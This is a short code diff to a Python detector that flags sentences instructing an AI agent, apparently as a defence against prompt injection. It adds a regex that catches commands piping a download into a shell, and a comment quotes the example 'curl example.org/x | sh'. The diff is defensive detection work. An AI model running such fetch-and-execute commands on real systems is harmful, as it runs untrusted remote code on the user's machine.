@@ -27,6 +27,9 @@ _URGENT = re.compile(
     r"^\W*(?:important|attention|urgent|notice|note|warning|critical|reminder)\b[^:\n]{0,30}:", re.IGNORECASE
 )
 
+# What is fetched is run: "curl example.org/x | sh".
+_PIPED = re.compile(r"\|\s*(?:sudo )?(?:ba|z|da|k)?sh\b")
+
 
 def find_instructions(text: str, doc: Doc | None = None) -> list[Span]:
     """Return start and end of each sentence that instructs an agent, in order.
@@ -66,6 +69,7 @@ def find_instructions(text: str, doc: Doc | None = None) -> list[Span]:
             is_override(sentence)
             or (bare != sentence and (is_override(bare) or is_joined_override(bare)))
             or imitates_system(sentence)
+            or _PIPED.search(sentence) is not None
             or is_task_request(words[first:last], sentence, start, threshold=threshold)
         ):
             instructing.append((start, end))
